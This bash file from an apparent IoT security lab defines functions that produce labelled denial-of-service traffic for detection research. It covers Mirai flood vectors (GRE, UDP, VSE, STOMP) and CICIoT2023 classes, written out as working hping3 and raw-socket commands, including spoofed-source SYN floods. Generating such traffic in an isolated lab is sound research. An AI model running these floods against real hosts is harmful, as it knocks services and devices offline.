# shellcheck shell=bash
# Fifth-session flood shapes (issue #5 "generalise"): Mirai vectors and
# CICIoT2023 classes the lab had never produced — GRE floods carrying an
# inner IP or Ethernet packet (Mirai greip/greeth), Mirai's plain UDP flood
# from one socket, the Valve Source Engine query flood (vse), STOMP (a
# completed handshake, then ACK+PSH segments with data into it), IP
# fragmentation floods (ACK, UDP, ICMP), RST+FIN floods, SYNs whose source
# is their destination (SynonymousIP, LAND-style), a connect() flood of
# complete handshakes, and two floods from a compromised LAN device at an
# outside address (the bot direction). hping3 where it can;
# lab/py/mirai5.py (frames built as Mirai's raw sockets build them, sent
# through AF_PACKET to a MAC given on its command line) where it cannot.
# Mix them into any scenario with --attacks.

# The outside addresses the bot floods (TEST-NET-3 and -2, never routed; two,
# so that two floods in one run are two incidents). Frames go to
# the gateway's MAC (as a device's traffic to the internet does); the lab has
# no route out, so the gateway drops them.
BOT_TARGET=203.0.113.50 BOT_TARGET2=198.51.100.20

attack_mirai_greip() {
    labelled mirai-greip dos "${IP[atk]}" "${IP[cam]}" "" mirai5.py \
        "Mirai greip: GRE packets carrying IPv4+UDP with random 512-byte payloads, inner destination the victim, random inner ports, 2 000/s for 3 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" greip --dst "${IP[cam]}" --dst-mac "${MAC[cam]}" --rate 2000 --count 6000
}

attack_mirai_greeth() {
    labelled mirai-greeth dos "${IP[atk]}" "${IP[hub]}" "" mirai5.py \
        "Mirai greeth: GRE (0x6558, Ethernet bridging) packets carrying random-MAC Ethernet + IPv4 + UDP with random 512-byte payloads, 2 000/s for 3 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" greeth --dst "${IP[hub]}" --dst-mac "${MAC[hub]}" --rate 2000 --count 6000
}

attack_mirai_udpplain() {
    labelled mirai-udpplain dos "${IP[atk]}" "${IP[plug]}" "" mirai5.py \
        "Mirai udpplain: one flow (random source and destination port fixed for the attack), random 512-byte payloads, 1 500/s for 4 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" udpplain --dst "${IP[plug]}" --dst-mac "${MAC[plug]}" --rate 1500 --count 6000
}

attack_mirai_vse() {
    labelled mirai-vse dos "${IP[atk]}" "${IP[spk]}" 27015 mirai5.py \
        "Mirai vse: TSource Engine Query datagrams to UDP 27015 from a random source port each, 2 000/s for 3 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" vse --dst "${IP[spk]}" --dst-mac "${MAC[spk]}" --rate 2000 --count 6000
}

attack_mirai_stomp() {
    labelled mirai-stomp dos "${IP[atk]}" "${IP[cam]}" 80 mirai5.py \
        "Mirai stomp: connect() to the camera's web port, then ACK+PSH segments with 768 random bytes on that connection (Mirai's byte-swapped sequence numbers), 2 000/s for 3 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" stomp --dst "${IP[cam]}" --dst-mac "${MAC[cam]}" --port 80 --size 768 --rate 2000 --count 6000
}

# CICIoT2023's fragmentation floods: hping3 with a virtual MTU, so every
# packet leaves in IP fragments and only the first carries the L4 header.
attack_ack_fragmentation() {
    labelled ack-fragmentation dos "${IP[atk]}" "${IP[cam]}" 80 hping3 \
        "ACK fragmentation flood: 1 200-byte ACK segments in 300-byte IP fragments (hping3 -A -d 1200 -m 300), 800 segments/s for 4 s" atk 120 -- \
        hping3 -q -A -p 80 -d 1200 -m 300 -c 3200 -i u1250 "${IP[cam]}"
}

attack_udp_fragmentation() {
    labelled udp-fragmentation dos "${IP[atk]}" "${IP[phone]}" 9999 hping3 \
        "UDP fragmentation flood: 1 200-byte datagrams in 300-byte IP fragments (hping3 --udp -d 1200 -m 300), 800/s for 4 s" atk 120 -- \
        hping3 -q --udp -p 9999 -d 1200 -m 300 -c 3200 -i u1250 "${IP[phone]}"
}

attack_icmp_fragmentation() {
    labelled icmp-fragmentation dos "${IP[atk]}" "${IP[hub]}" "" hping3 \
        "ICMP fragmentation flood: 1 200-byte echoes in 300-byte IP fragments (hping3 -1 -d 1200 -m 300), 150/s for 8 s" atk 120 -- \
        hping3 -q -1 -d 1200 -m 300 -c 1200 -i u6666 "${IP[hub]}"
}

# Later fragments only (offset 1 480 bytes, more fragments to come): no
# first fragment ever says what the datagrams are, and the receiver can
# reassemble none of them (added after floods5-81).
attack_fragment_only_flood() {
    labelled fragment-only-flood dos "${IP[atk]}" "${IP[spk]}" "" hping3 \
        "flood of later IP fragments only (hping3 --udp -g 1480 -x: offset 1 480, more fragments), 1 000-byte fragments, 1 000/s for 4 s" atk 120 -- \
        hping3 -q --udp -g 1480 -x -p 9999 -d 1000 -c 4000 -i u1000 "${IP[spk]}"
}

attack_rstfin_flood() {
    labelled rstfin-flood dos "${IP[atk]}" "${IP[srv]}" 1883 hping3 \
        "RST+FIN flood (hping3 -R -F), 1 500/s for 4 s" atk 120 -- \
        hping3 -q -R -F -p 1883 -c 6000 -i u666 "${IP[srv]}"
}

attack_synonymousip_flood() {
    labelled synonymousip-flood dos "${IP[atk]}" "${IP[dvr]}" 80 hping3 \
        "SynonymousIP flood: SYNs whose source address is the victim's own (hping3 -S -a VICTIM), 1 000/s for 4 s" atk 120 -- \
        hping3 -q -S -a "${IP[dvr]}" -p 80 -c 4000 -i u1000 "${IP[dvr]}"
}

attack_tcp_connect_flood() {
    labelled tcp-connect-flood dos "${IP[atk]}" "${IP[srv]}" 1883 mirai5.py \
        "TCP connect flood: complete handshakes to the broker closed at once (reset), no data, 8 threads, ~800/s for 5 s" atk 120 -- \
        python3 "$LAB/py/mirai5.py" connect --dst "${IP[srv]}" --port 1883 --rate 800 --count 4000 --threads 8 --seconds 8
}

# The bot direction: the DVR (the device Mirai infects in the other
# scenarios) floods an outside address through the gateway's MAC.
attack_bot_greip_out() {
    labelled bot-greip-out dos "${IP[dvr]}" "$BOT_TARGET" "" mirai5.py \
        "Mirai greip from the compromised DVR at an outside address (frames to the gateway's MAC), 2 000/s for 3 s" dvr 120 -- \
        python3 "$LAB/py/mirai5.py" greip --dst "$BOT_TARGET" --dst-mac "${MAC[gw]}" --rate 2000 --count 6000
}

attack_bot_udpplain_out() {
    labelled bot-udpplain-out dos "${IP[dvr]}" "$BOT_TARGET2" "" mirai5.py \
        "Mirai udpplain from the compromised DVR at an outside address: one flow, random 512-byte payloads, 1 500/s for 4 s" dvr 120 -- \
        python3 "$LAB/py/mirai5.py" udpplain --dst "$BOT_TARGET2" --dst-mac "${MAC[gw]}" --rate 1500 --count 6000 --seed 9
}
